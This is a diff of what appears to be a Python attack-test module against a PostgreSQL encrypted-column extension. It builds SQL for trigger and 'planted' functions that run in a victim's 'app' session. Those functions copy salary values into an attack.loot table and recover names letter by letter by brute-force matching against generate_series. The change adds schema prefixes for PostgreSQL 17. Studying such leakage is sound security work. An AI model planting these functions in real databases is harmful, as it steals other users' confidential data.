@@ -18,7 +18,11 @@ from stack import RUN, Stack
 
 PAY, NAME = 5200, "Kim"
 
-LOOT = "INSERT INTO loot SELECT e.id, g FROM emp e JOIN generate_series(0, 9999) g ON e.pay = g"
+# With the schema's name: VACUUM, ANALYZE and REFRESH have a search path of their own from 17 on.
+LOOT = (
+    "INSERT INTO attack.loot SELECT e.id, g "
+    "FROM attack.emp e JOIN generate_series(0, 9999) g ON e.pay = g"
+)
 LETTERS = (
     "INSERT INTO loot SELECT o, g FROM emp e, generate_series(1, 3) o, generate_series(32, 126) g, "
     "generate_series(1, 1) n WHERE substr(e.name, o::enc_int4, n::enc_int4) = chr(g)::enc_text"
@@ -32,8 +36,8 @@ def function(name, body, returns="trigger", rest="LANGUAGE plpgsql"):
 def once(body, result):
     """Runs once in the victim's session, although it writes rows itself."""
     return (
-        "BEGIN IF session_user = 'app' AND NOT EXISTS (SELECT FROM loot) THEN "
-        "INSERT INTO loot VALUES (0, 0); "
+        "BEGIN IF session_user = 'app' AND NOT EXISTS (SELECT FROM attack.loot) THEN "
+        "INSERT INTO attack.loot VALUES (0, 0); "
         f"{body}; END IF; RETURN {result}; END"
     )
 
@@ -42,7 +46,10 @@ TRIGGER = function("take()", once(LOOT, "NEW"))
 PLANTED = function("planted()", once(LOOT, "true"), "boolean")
 
 IMMUTABLE = function(
-    "planted(int)", "BEGIN PERFORM planted(); RETURN $1; END", "int", "LANGUAGE plpgsql IMMUTABLE"
+    "planted(int)",
+    "BEGIN PERFORM attack.planted(); RETURN $1; END",
+    "int",
+    "LANGUAGE plpgsql IMMUTABLE",
 )
 
 LASTS = "a statement that lets plain values meet a column does so until its session ends"
